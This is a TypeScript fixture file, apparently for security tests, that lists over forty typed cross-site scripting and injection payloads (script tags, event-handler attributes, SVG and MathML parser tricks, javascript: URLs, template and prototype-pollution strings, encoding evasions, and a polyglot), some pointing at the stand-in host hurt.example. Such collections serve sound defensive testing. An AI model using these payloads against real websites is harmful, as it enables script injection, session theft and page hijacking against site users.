/** The ways in which text has become code on other sites. */
export type PayloadKind =
  | 'tag'
  | 'attribute'
  | 'drawing'
  | 'address'
  | 'template'
  | 'parser'
  | 'encoding'
  | 'prototype'
  | 'data'
  | 'style'
  | 'head'
  | 'mixed'

/** Hostile text: where any of it runs, `hurt` is set on the window, a dialog opens, or the page changes. */
export interface Payload {
  readonly kind: PayloadKind
  readonly text: string
}

const payload = (kind: PayloadKind, ...texts: readonly string[]): readonly Payload[] =>
  texts.map((text) => ({ kind, text }))

/** More than forty texts, each a shape of its own. Addresses lead to `hurt.example`, which no test may ever ask. */
export const payloads: readonly Payload[] = [
  ...payload(
    'tag',
    '<script>hurt=1</script>',
    '<ScRiPt src=https://hurt.example/a.js></sCrIpT >',
    '<img src=x onerror=hurt=1>',
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
    '<object data="data:text/html,<script>parent.hurt=1</script>"></object>',
    '<details open ontoggle=hurt=1><summary>x</summary></details>',
    '<input autofocus onfocus=alert(1)>',
    '<img src="https://hurt.example/?left open=',
  ),
  ...payload(
    'attribute',
    '" onmouseover="hurt=1" autofocus onfocus="hurt=1" x="',
    "' onclick='hurt=1' accesskey='x' x='",
    '"><img src=x onerror=hurt=1><"',
    '</textarea><img src=x onerror=hurt=1>',
    '</option></select><img src=x onerror=hurt=1>',
  ),
  ...payload(
    'drawing',
    '<svg onload=hurt=1>',
    '<svg><animate onbegin=hurt=1 attributeName=x dur=1s></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hurt=1>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=hurt=1></style></mglyph></table></mtext></math>',
  ),
  ...payload(
    'address',
    'javascript:hurt=1//',
    'JaVa\tScRiPt:hurt=1',
    'data:text/html;base64,PHNjcmlwdD5odXJ0PTE8L3NjcmlwdD4=',
    '//hurt.example/%2e%2e',
    '../../../search/it/records.json?hurt=1#',
  ),
  ...payload(
    'template',
    '{{constructor.constructor("hurt=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that is no template is the point.
    '${hurt=1}#{hurt=1}<%= hurt=1 %>',
    '{item} {query} {label} {excerpt} {what} $& $1 $` %s',
  ),
  ...payload(
    'parser',
    '<noscript><p title="</noscript><img src=x onerror=hurt=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=hurt=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt=1>',
    '<!--><img src=x onerror=hurt=1>-->',
  ),
  ...payload(
    'encoding',
    '&lt;img src=x onerror=hurt=1&gt;&#60;script&#62;hurt=1&#60;/script&#62;',
    '＜img src=x onerror=hurt=1＞﹤script﹥hurt=1﹤/script﹥',
    '\\u003cimg src=x onerror=hurt=1\\u003e%3Cscript%3Ehurt=1%3C/script%3E+ADw-script+AD4-',
    '\u202Egpj.exe\u202C<\u200Bimg \uFEFFsrc=x on\u00ADerror=hurt=1>\u2066',
    '<img\u0000 src=x\u000Conerror=hurt=1>',
  ),
  ...payload('prototype', '__proto__', 'constructor[prototype][hurt]=1'),
  ...payload('data', '"},"__proto__":{"hurt":1},"version":99,"x":{"', '\\"]};hurt=1;//\u2028hurt=1'),
  ...payload(
    'style',
    '</style><style>*{background:url(https://hurt.example/)}</style><b style="position:fixed;inset:0">x</b>',
  ),
  ...payload(
    'head',
    '<base href="https://hurt.example/"><meta http-equiv=refresh content="0;url=https://hurt.example/"><title>hurt</title>',
  ),
  ...payload(
    'mixed',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */onerror=hurt=1 )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hurt=1//>\\x3e',
  ),
]
